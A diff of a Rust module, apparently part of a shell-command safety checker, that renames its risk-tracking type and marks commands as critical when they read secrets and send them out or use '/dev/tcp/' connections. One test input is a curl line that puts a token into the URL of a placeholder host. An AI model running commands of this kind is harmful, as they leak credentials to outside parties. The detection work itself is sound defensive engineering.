@@ -5,7 +5,7 @@ use std::path::Path;
 use shell_syntax::{SimpleCommand, Word};
 
 use crate::address;
-use crate::change::{Effects, Read, Risk, Tier};
+use crate::judgement::{Judgement, Read, Risk, Tier};
 use crate::programs::{FOREIGN, Kind, Programs, SENDS, kind};
 use crate::risk;
 use crate::secret_files::secret;
@@ -21,25 +21,25 @@ pub(crate) fn raise_risk(
     text: &str,
     commands: &[SimpleCommand],
     programs: &Programs,
-    effects: &mut Effects,
+    judgement: &mut Judgement,
 ) {
     if let Some(command) = commands.iter().find(|command| is_sent_by_code(command)) {
-        return risk::raise(&mut effects.risk, Tier::Critical, command);
+        return risk::raise(&mut judgement.together, Tier::Critical, command);
     }
     let is_handed_on =
         |command: &&SimpleCommand| is_in_an_address(command, programs) || is_in_data(command);
     if let Some(command) = commands.iter().find(is_handed_on) {
-        return risk::raise(&mut effects.risk, Tier::Critical, command);
+        return risk::raise(&mut judgement.together, Tier::Critical, command);
     }
     let is_read = |read: &&Read| !matches!(read.program.as_str(), "source" | ".");
     let connects = text.contains("/dev/tcp/") || text.contains("/dev/udp/");
-    let mut reads = effects.reads.iter().filter(is_read);
+    let mut reads = judgement.reads.iter().filter(is_read);
     if !reads.any(|read| is_secret(&read.path) || connects && !read.path.starts_with("/dev/")) {
         return;
     }
     if connects {
         let command = text.chars().take(120).collect();
-        effects.risk = Risk { tier: Tier::Critical, command };
+        judgement.together = Risk { tier: Tier::Critical, command };
         return;
     }
     let hands_on = text.contains(['|', '<', '`', '@']) || text.contains("$(");
@@ -47,7 +47,7 @@ pub(crate) fn raise_risk(
     let sends = |command: &&SimpleCommand| {
         let program = command.program().unwrap_or_default();
         let is_own = |read: &Read| read.program == program && is_secret(&read.path);
-        if !(hands_on || asks(program) && effects.reads.iter().any(is_own)) {
+        if !(hands_on || asks(program) && judgement.reads.iter().any(is_own)) {
             return false;
         }
         let is_told = |head: &str| {
@@ -57,7 +57,7 @@ pub(crate) fn raise_risk(
         programs.lines(program, SENDS).any(|line| is_told(line.head))
     };
     if let Some(command) = commands.iter().find(sends) {
-        risk::raise(&mut effects.risk, Tier::Critical, command);
+        risk::raise(&mut judgement.together, Tier::Critical, command);
     }
 }
 
@@ -118,8 +118,12 @@ mod tests {
     #[test]
     fn a_secret_in_an_address_is_sent() {
         let check = |line: &str, expected: Tier| {
-            let found = crate::effects(line, &Programs::default(), &[]);
-            assert_eq!(found.risk.tier == Tier::Critical, expected == Tier::Critical, "{line}");
+            let found = crate::judge(line, None, &Programs::default());
+            assert_eq!(
+                found.risk(&[]).tier == Tier::Critical,
+                expected == Tier::Critical,
+                "{line}"
+            );
         };
         for line in [
             "curl \"https://h.example/$TOKEN\"",
